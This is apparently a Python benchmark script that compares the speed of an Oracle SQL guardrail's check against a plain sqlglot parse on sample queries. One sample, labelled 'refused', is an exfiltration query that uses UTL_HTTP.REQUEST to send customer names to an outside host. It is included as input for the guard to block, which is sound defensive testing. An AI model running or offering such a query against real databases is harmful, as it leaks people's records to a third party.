"""One check of the guardrail beside the bare parse of the same text in the same process; medians.

The parse is the naive baseline: `sqlglot.parse_one(sql, dialect="oracle")`, which is where most guards end.

    .venv/bin/python -m benchmarks.guardrail > benchmarks/results/guardrail.txt
"""

import statistics
import time
from collections.abc import Callable
from pathlib import Path

import sqlglot

from oracle_sft.sqltext.ddl import read_ddl
from oracle_sft.sqltext.guardrail import SQLGuardrail
from oracle_sft.sqltext.lexer import tokens

DEMO = Path(__file__).parents[1] / "oracle_sft" / "pairs" / "demo" / "schema.sql"
QUERIES = {
    "simple": "SELECT name, city FROM customers WHERE city = 'Linz' ORDER BY name",
    "35 tokens": (
        "SELECT c.city, COUNT(*) AS n FROM customers c JOIN bills b ON b.customer_id = c.id "
        "WHERE b.amount > 100 GROUP BY c.city ORDER BY 2"
    ),
    "subqueries": (
        "WITH big AS (SELECT customer_id, SUM(amount) total FROM bills GROUP BY customer_id HAVING "
        "SUM(amount) > 1000) SELECT c.name, big.total, (SELECT MAX(p.paid_on) FROM payments p WHERE "
        "p.customer_id = c.id) last_paid FROM customers c JOIN big ON big.customer_id = c.id WHERE NOT "
        "EXISTS (SELECT 1 FROM complaints x WHERE x.customer_id = c.id AND x.open = 'Y') ORDER BY 2 DESC"
    ),
    "refused": "SELECT UTL_HTTP.REQUEST('http://example.com/' || name) FROM customers WHERE id = 1",
}
ROUNDS = 2_000


def median_ms(calls: list[Callable[[], object]]) -> list[float]:
    """Medians of interleaved calls, so that a busy moment of the machine hits all of them."""
    clock = time.perf_counter
    seconds: list[list[float]] = [[] for _ in calls]
    for _ in range(ROUNDS):
        for number, call in enumerate(calls):
            started = clock()
            call()
            seconds[number].append(clock() - started)
    return [statistics.median(said) * 1000 for said in seconds]


def main() -> None:
    """Print one line a query."""
    guardrail = SQLGuardrail()
    schema = read_ddl(DEMO.read_text(encoding="utf-8"), schema_id="bikes")
    titles = ("query", "tokens", "parse ms", "check ms", "check/parse", "with a schema ms")
    print(
        f"{titles[0]:<12}{titles[1]:>8}{titles[2]:>10}{titles[3]:>10}{titles[4]:>13}{titles[5]:>18}"
    )
    for name, sql in QUERIES.items():
        parse, check, schema_check = median_ms(
            [
                lambda sql=sql: sqlglot.parse_one(sql, dialect="oracle"),  # type: ignore[misc]
                lambda sql=sql: guardrail.check(sql),  # type: ignore[misc]
                lambda sql=sql: guardrail.check(sql, schema=schema),  # type: ignore[misc]
            ]
        )
        count = sum(1 for _ in tokens(sql))
        print(
            f"{name:<12}{count:>8}{parse:>10.3f}{check:>10.3f}{check / parse:>13.2f}{schema_check:>18.3f}"
        )


if __name__ == "__main__":
    main()
